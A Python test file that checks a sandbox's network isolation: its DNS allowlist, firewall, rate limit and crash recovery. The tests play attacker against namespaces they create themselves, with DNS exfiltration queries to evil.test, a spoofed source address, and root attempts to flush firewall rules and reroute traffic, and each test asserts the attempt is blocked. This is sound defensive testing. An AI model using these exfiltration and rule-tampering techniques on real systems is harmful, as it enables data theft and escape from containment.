"""Egress allowlist, resolver and rate limit, from the attacker's side, in a little internet
made of namespaces this test creates (tests/helpers/netlab.py).

The host side of every sandbox (veth, nft table, resolver, NFLOG) is made by the code
under test inside `sbxt-<pid>-host`, a namespace playing the daemon's; the real root
netns is checked to hold nothing of ours after the run. The "sandboxed process" is a
process in the sandbox's netns as uid 1000 without capabilities (and, where the policy
would allow root, root of its own user namespace)."""
import os
import secrets
import subprocess
import sys
from types import SimpleNamespace

import pytest

from sandbox.audit.sink import MemorySink
from sandbox.errors import UnsupportedError
from sandbox.kernel import netfilter, network, tc
from sandbox.policy.schema import NetworkPolicy, Policy
from tests.helpers.netlab import client, lab, sh, wait_for  # noqa: F401 (lab: fixture)

DNS_UP = "10.250.3.2"


class Intents:
    def __init__(self):
        self.records = []

    def add(self, kind, **fields):
        self.records.append({"kind": kind, **fields})


_n = iter(range(1000))


def make_ctx(mode="egress", allow=(), rate=0, **kw):
    if mode == "egress":  # the lab's hosts live in 10.250/16: private addresses
        kw = {"dns_upstream": (DNS_UP,), "dns_private": True, **kw}
    pol = Policy(network=NetworkPolicy(mode=mode, allow=tuple(allow), rate=rate, **kw))
    return SimpleNamespace(id=f"t{os.getpid()}n{next(_n)}", policy=pol,
                           plan=SimpleNamespace(netns_fd=None), audit=MemorySink(),
                           intent=Intents(), extra={})


@pytest.fixture
def sandbox(lab):
    made = []

    def make(*a, **kw):
        ctx = make_ctx(*a, **kw)
        h = network.setup(ctx)
        made.append(h)
        h.ctx = ctx
        return h
    yield make
    for h in made:
        network.teardown(h, verify=False)


def resolve(lab, h, name, **kw):
    return client(lab, h.netns, "resolve", resolver=h.resolver_ip, q={"name": name, **kw})


def connect(lab, h, host, port, **kw):
    return client(lab, h.netns, "connect", c={"host": host, "port": port, **kw})


def drops(h, **match):
    return h.ctx.audit.find("net_drop", **match)


def test_allowlisted_name_resolves_and_its_https_port_is_reachable(lab, sandbox):
    h = sandbox(allow=["api.example.test:443", "alias.example.test"])
    assert resolve(lab, h, "api.example.test") == {"rcode": "NOERROR", "a": ["10.250.1.2"],
                                                   "tc": False}
    assert ("10.250.1.2", 443) in network.HostSide.get().call(_allowed, h.table)
    r = connect(lab, h, "10.250.1.2", 443, tls=True, sni="api.example.test")
    assert r["ok"] and r["data"].endswith("secure")
    # a CNAME chain: the final address is what gets pinned; DNS over TCP works too
    assert resolve(lab, h, "alias.example.test", tcp=True)["a"] == ["10.250.1.2"]
    assert h.ctx.audit.find("dns_query", name="api.example.test", outcome="ok")


def _allowed(table):
    fw = netfilter.Firewall()
    try:
        return fw.allowed(table)
    finally:
        fw.close()


def test_unlisted_names_get_nxdomain_and_never_reach_upstream(lab, sandbox):
    h = sandbox(allow=["api.example.test"])
    before = len(lab.queries())
    assert resolve(lab, h, "evil.test")["rcode"] == "NXDOMAIN"
    assert resolve(lab, h, "example.test")["rcode"] == "NXDOMAIN"
    assert lab.queries()[before:] == []
    assert h.ctx.audit.find("dns_query", name="evil.test", reason="not on the allowlist")


def test_dns_exfiltration_attempts_never_reach_upstream_and_are_audited(lab, sandbox):
    h = sandbox(allow=["api.example.test", "*.wild.test"])
    before = len(lab.queries())
    secret = secrets.token_hex(30)  # the "data" an agent would smuggle out, made now
    exfil = f"{secret[:60]}.{secret[:50]}.evil.test"
    res = client(lab, h.netns, "many", qs=[
        {"name": exfil, "server": h.resolver_ip},
        {"name": "api.example.test", "rtype": "TXT", "server": h.resolver_ip},
        {"name": "x.wild.test", "rtype": "ANY", "server": h.resolver_ip},
        {"name": exfil, "server": DNS_UP},                 # straight to the upstream resolver
        {"name": exfil, "server": DNS_UP, "tcp": True},
    ])
    assert res[0]["rcode"] == "NXDOMAIN"
    assert res[1]["rcode"] == res[2]["rcode"] == "REFUSED"
    assert "error" in res[3] and "error" in res[4]         # dropped on the way
    assert lab.queries()[before:] == []                    # the upstream saw nothing
    a = h.ctx.audit
    assert a.find("dns_query", reason="type refused") and a.find("dns_query", name_len=len(exfil))
    assert wait_for(lambda: drops(h, dst=DNS_UP, dport=53, proto="udp")
                    and drops(h, dst=DNS_UP, dport=53, proto="tcp"))
    # the chosen name is bounded in records (80 characters and a hash), never stored whole
    assert all(exfil not in str(r) for r in a.records)
    assert a.find("dns_query", name_len=len(exfil))[0]["details"]["name_sha256"]


def test_ip_not_allowlisted_and_wrong_ports_and_udp_fail(lab, sandbox):
    h = sandbox(allow=["plain.example.test:443"])
    assert resolve(lab, h, "plain.example.test")["a"] == ["10.250.2.2"]   # pins :443 only
    res = client(lab, h.netns, "conns", cs=[{"host": "10.250.2.2", "port": 80},  # plain HTTP
                                            {"host": "10.250.2.2", "port": 22},  # SSH
                                            {"host": "10.250.1.2", "port": 443}])  # by IP
    assert res == [{"ok": False, "error": "TimeoutError"}] * 3
    assert client(lab, h.netns, "udp", u={"host": "10.250.2.2", "port": 5353})["ok"] is False
    assert wait_for(lambda: drops(h, dst="10.250.2.2", dport=80) and drops(
        h, dst="10.250.2.2", dport=22) and drops(h, dst="10.250.1.2", dport=443)
        and drops(h, proto="udp", dport=5353))
    assert h.usage()["net_drops"] >= 4


def test_other_sandboxes_and_host_services_are_unreachable(lab, sandbox):
    a = sandbox(allow=["10.250.2.2:9000"])
    b = sandbox(allow=["10.250.2.2:9000"])
    # a listener inside b; a must not reach it. The host ns runs services on 80/22/9000.
    srv = subprocess.Popen(["nsenter", f"--net={lab.netns_dir}/{b.netns}", "--setuid=1000",
                            "--setgid=1000", "--", "/usr/bin/python3", "-c",
                            "import socket,time; s=socket.socket(); s.bind(('0.0.0.0',8080));"
                            "s.listen(); print('ready', flush=True); time.sleep(30)"],
                           stdout=subprocess.PIPE, text=True)
    try:
        assert srv.stdout.readline().strip() == "ready"
        targets = [(b.sandbox_ip, 8080), ("127.0.0.1", 80)]           # b; a's own loopback
        targets += [(host, port) for host in (a.resolver_ip, b.resolver_ip, "10.250.1.1")
                    for port in (80, 22, 9000)]                       # the host's services
        res = client(lab, a.netns, "conns", cs=[{"host": h_, "port": p} for h_, p in targets])
        assert [r["ok"] for r in res] == [False] * len(targets), list(zip(targets, res))
        assert wait_for(lambda: drops(a, dst=b.sandbox_ip, dport=8080)
                        or drops(b, dst=b.sandbox_ip, dport=8080))
        assert wait_for(lambda: drops(a, dst="10.250.1.1", dport=22))
    finally:
        srv.kill()
        srv.wait()
        srv.stdout.close()


def test_spoofed_source_is_dropped(lab, sandbox):
    h = sandbox(allow=["10.250.2.2:80"])
    assert connect(lab, h, "10.250.2.2", 80)["ok"]                   # allowed from its address
    # Give the sandbox a second address from outside (the agent cannot: no CAP_NET_ADMIN
    # over a host-owned netns) and use it as the source: the host side must drop it.
    spoof = "10.99.0.5"  # not the /30 broadcast: a TCP bind there silently uses eth0's
    sh("ip", "-n", f"../..{lab.netns_dir}/{h.netns}", "addr", "add", f"{spoof}/32", "dev",
       "eth0", check=False)
    r = subprocess.run(["nsenter", f"--net={lab.netns_dir}/{h.netns}", "--", "/usr/bin/python3",
                        "-c", f"import socket; s=socket.socket(); s.settimeout(2); "
                        f"s.bind(('{spoof}',0)); s.connect(('10.250.2.2',80))"],
                       capture_output=True, text=True)
    assert r.returncode != 0 and "timed out" in r.stderr
    assert wait_for(lambda: drops(h, src=spoof))


def test_root_inside_cannot_change_host_side_rules(lab, sandbox):
    h = sandbox(allow=["10.250.2.2:9000"], rate=2_000_000)
    before = lab.host_nft()
    for argv in (["nft", "flush", "ruleset"], ["ip", "link", "set", "eth0", "down"],
                 ["tc", "qdisc", "del", "dev", "eth0", "root"],
                 ["ip", "route", "replace", "default", "via", h.resolver_ip],
                 ["ip", "addr", "add", "10.213.255.1/32", "dev", "eth0"]):
        r = client(lab, h.netns, "shell", userns_root=True, uid=1000, argv=argv)
        assert r["rc"] != 0, argv
        assert "ermission" in r["err"] or "not permitted" in r["err"], r
    assert lab.host_nft() == before
    fd = os.open(f"{lab.netns_dir}/{h.netns}", os.O_RDONLY)
    try:
        assert network.HostSide.get().call(_qdisc_in, fd) == ["tbf"]
    finally:
        os.close(fd)
    assert connect(lab, h, "10.250.2.2", 80)["ok"] is False


def _qdisc_in(fd):
    hs = network.HostSide.get()
    with hs.inside(fd):
        return tc.qdisc_kinds("eth0")


def test_rate_limit_holds_within_ten_percent(lab, sandbox):
    rate = 2_000_000
    h = sandbox(allow=["10.250.2.2:9000"], rate=rate)
    r = client(lab, h.netns, "bulk", b={"host": "10.250.2.2", "port": 9000, "seconds": 2})
    # the first bucketful passes at line rate; measure the rest. tbf counts whole frames:
    # a full TCP segment carries 1448 payload bytes in 1514 (MSS with timestamps + headers)
    got_bps = (r["bytes"] - tc.burst_bytes(rate)) * 8 / r["seconds"]
    expected = rate * 1448 / 1514
    assert 0.9 * expected <= got_bps <= 1.1 * expected, (got_bps, expected, r)
    u = h.usage()
    assert u["net_tx_bytes"] >= r["bytes"] and u["net_rx_bytes"] > 0


def test_loopback_mode_has_lo_only_and_none_makes_nothing(lab, sandbox):
    h = sandbox(mode="loopback")
    out = sh("ip", "-n", f"../..{lab.netns_dir}/{h.netns}", "-o", "link", "show").stdout
    assert [l.split(":")[1].strip() for l in out.splitlines()] == ["lo"] and "UP" in out
    assert h.ctx.plan.netns_fd is not None and h.veth is None
    ctx = make_ctx(mode="none")
    assert network.make_step(ctx) is None


def test_ipv6_literals_fail_closed(lab):
    ctx = make_ctx(allow=["[2001:db8::1]:443"])
    with pytest.raises(UnsupportedError, match="IPv6"):
        network.setup(ctx)
    assert not os.path.exists(f"{lab.netns_dir}/{network.netns_name(ctx.id)}")


def _nothing_left(lab, h_names):
    netns, veth, table = h_names
    assert not os.path.exists(f"{lab.netns_dir}/{netns}")
    assert veth not in lab.host_links()
    assert table not in lab.host_nft()


def test_destroy_removes_everything(lab):
    ctx = make_ctx(allow=["api.example.test", "10.250.2.2:9000"], rate=1_000_000)
    h = network.setup(ctx)
    names = (h.netns, h.veth, h.table)
    assert h.veth in lab.host_links() and h.table in lab.host_nft()
    assert network.teardown(h) == []
    _nothing_left(lab, names)
    assert h.usage()["net_drops"] == 0  # the final figures stay readable


def test_crash_then_recovery_removes_everything(lab):
    ctx = make_ctx(allow=["api.example.test"], rate=1_000_000)
    h = network.setup(ctx)
    names = (h.netns, h.veth, h.table)
    network.HostSide.get().call(h.resolver.stop)  # the daemon "dies": nothing is undone
    os.close(h.netns_fd)
    kinds = {r["kind"]: r for r in ctx.intent.records}
    assert set(kinds) == {"netns", "veth", "nft", "qdisc"}
    # a restarted daemon: the intent records first (in recovery's order), twice (idempotent)
    for _ in range(2):
        tc.cleanup_qdisc(kinds["qdisc"])
        netfilter.cleanup(kinds["nft"])
        network.cleanup_veth(kinds["veth"])
        network.cleanup_netns(kinds["netns"])
    _nothing_left(lab, names)


def test_restart_sweep_removes_leftovers_by_name(lab):
    keep = network.setup(make_ctx(allow=["api.example.test"]))
    lost = network.setup(make_ctx(allow=["api.example.test"]))
    names = (lost.netns, lost.veth, lost.table)
    network.HostSide.get().call(lost.resolver.stop)
    os.close(lost.netns_fd)
    try:
        removed = network.cleanup_leftovers(active_ids=[keep.sandbox_id])
        assert sorted(removed) == sorted([f"nft inet {lost.table}", f"veth {lost.veth}",
                                          f"netns {lost.netns}"])
        _nothing_left(lab, names)
        assert keep.veth in lab.host_links()
    finally:
        network.teardown(keep)


def test_probe_reports_what_egress_needs(lab):
    rows = network.probe()
    assert [r[1] for r in rows] == [True] * 4, rows


def test_literal_addresses_stay_permanent_when_a_name_resolves_to_them(lab, sandbox):
    h = sandbox(allow=["10.250.1.2:443", "api.example.test", "www.example.test:8443"])
    assert resolve(lab, h, "api.example.test")["a"] == ["10.250.1.2"]
    assert resolve(lab, h, "www.example.test")["a"] == ["10.250.1.2"]
    out = sh("ip", "netns", "exec", lab.host, "nft", "list", "set", "inet", h.table,
             "allow4").stdout
    elems = out.split("elements = {")[1]
    literal = [e for e in elems.split(",") if "10.250.1.2 . 443" in e][0]
    timed = [e for e in elems.split(",") if "10.250.1.2 . 8443" in e][0]
    assert "timeout" not in literal and "timeout 1m" in timed   # fake upstream TTL 60 s


def test_egress_without_forwarding_fails_closed_and_makes_nothing(lab):
    ns = f"sbxt-{os.getpid()}-nofwd"
    sh("ip", "netns", "add", ns)
    saved = network.CONFIG
    try:
        network.configure(host_netns=f"/run/netns/{ns}")
        ctx = make_ctx(allow=["api.example.test"])
        with pytest.raises(UnsupportedError, match="ip_forward"):
            network.setup(ctx)
        assert ctx.intent.records == []
        assert not os.path.exists(f"{lab.netns_dir}/{network.netns_name(ctx.id)}")
        links = sh("ip", "-n", ns, "-o", "link", "show").stdout.splitlines()
        assert len(links) == 1 and "lo:" in links[0]
        assert sh("ip", "netns", "exec", ns, "nft", "list", "tables").stdout == ""
    finally:
        network.CONFIG = saved
        sh("ip", "netns", "del", ns)


def test_sandbox_gets_ipv4_only(lab, sandbox):
    h = sandbox(allow=["api.example.test"])
    out = sh("ip", "-n", f"../..{lab.netns_dir}/{h.netns}", "-o", "addr", "show", "dev",
             "eth0").stdout
    assert "inet " in out and "inet6" not in out
    assert resolve(lab, h, "api.example.test", rtype="AAAA") == {"rcode": "NOERROR", "a": [],
                                                                 "tc": False}


def test_by_default_a_name_cannot_be_pointed_at_internal_addresses(lab, sandbox):
    h = sandbox(allow=["api.example.test"], dns_private=False)
    r = resolve(lab, h, "api.example.test")
    assert r == {"rcode": "NOERROR", "a": [], "tc": False}, r
    assert network.HostSide.get().call(_allowed, h.table) == set()
    assert connect(lab, h, "10.250.1.2", 443)["ok"] is False


_CRASHING_DAEMON = r'''
import sys, time
from types import SimpleNamespace
from pathlib import Path
from sandbox.audit.sink import NULL_SINK
from sandbox.kernel import network
from sandbox.policy.schema import NetworkPolicy, Policy
from sandbox.runtime.intent import Intent
host, nsdir, state, sid = sys.argv[1:5]
# its own NFLOG group: the test process (the "restarted daemon") holds the default one
network.configure(host_netns=host, netns_dir=nsdir, nflog_group=0x5b1)
pol = Policy(network=NetworkPolicy(mode="egress", allow=("api.example.test", "10.250.2.2:9000"),
                                   rate=1_000_000, dns_upstream=("10.250.3.2",), dns_private=True))
ctx = SimpleNamespace(id=sid, policy=pol, plan=SimpleNamespace(netns_fd=None), audit=NULL_SINK,
                      intent=Intent.create(Path(state), sid, {}), extra={})
h = network.setup(ctx)
print(h.netns, h.veth, h.table, flush=True)
time.sleep(60)
'''


def test_daemon_killed_then_recovery_removes_everything(lab, tmp_path):
    """A real crash: the process that made the network is SIGKILLed; a restarted daemon's
    recovery (runtime/recovery.py) finds the intent record and removes every object."""
    from sandbox.runtime.recovery import recover
    sid = f"t{os.getpid()}crash"
    p = subprocess.Popen([sys.executable, "-c", _CRASHING_DAEMON, f"/run/netns/{lab.host}",
                          lab.netns_dir, str(tmp_path), sid], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True,
                         cwd=os.path.dirname(os.path.dirname(os.path.dirname(__file__))))
    try:
        names = tuple(p.stdout.readline().split())
        assert len(names) == 3, p.stderr.read()
    finally:
        p.kill()
        p.wait()
        p.stdout.close()
        p.stderr.close()
    netns, veth, table = names
    assert os.path.exists(f"{lab.netns_dir}/{netns}") and veth in lab.host_links()
    assert table in lab.host_nft()
    report = recover(tmp_path)
    assert report.ok, report.leftovers
    assert sorted(r.split("(")[0] for r in report.sandboxes[0].removed) == [
        "netns", "nft", "qdisc", "veth"]
    _nothing_left(lab, names)


def test_quick_create_destroy_leaves_the_resolver_loop_clean(lab, sandbox):
    for _ in range(3):  # destroyed before the resolver's server tasks ever ran
        network.teardown(network.setup(make_ctx(allow=["api.example.test"])))
    hs = network.HostSide.get()

    def closed_fds():
        out = []
        for fd in hs.loop._selector.get_map():
            try:
                os.fstat(fd)
            except OSError:
                out.append(fd)
        return out
    assert hs.call(closed_fds) == []
    h = sandbox(allow=["api.example.test"])
    assert resolve(lab, h, "api.example.test", tcp=True)["a"] == ["10.250.1.2"]
    assert resolve(lab, h, "api.example.test")["a"] == ["10.250.1.2"]
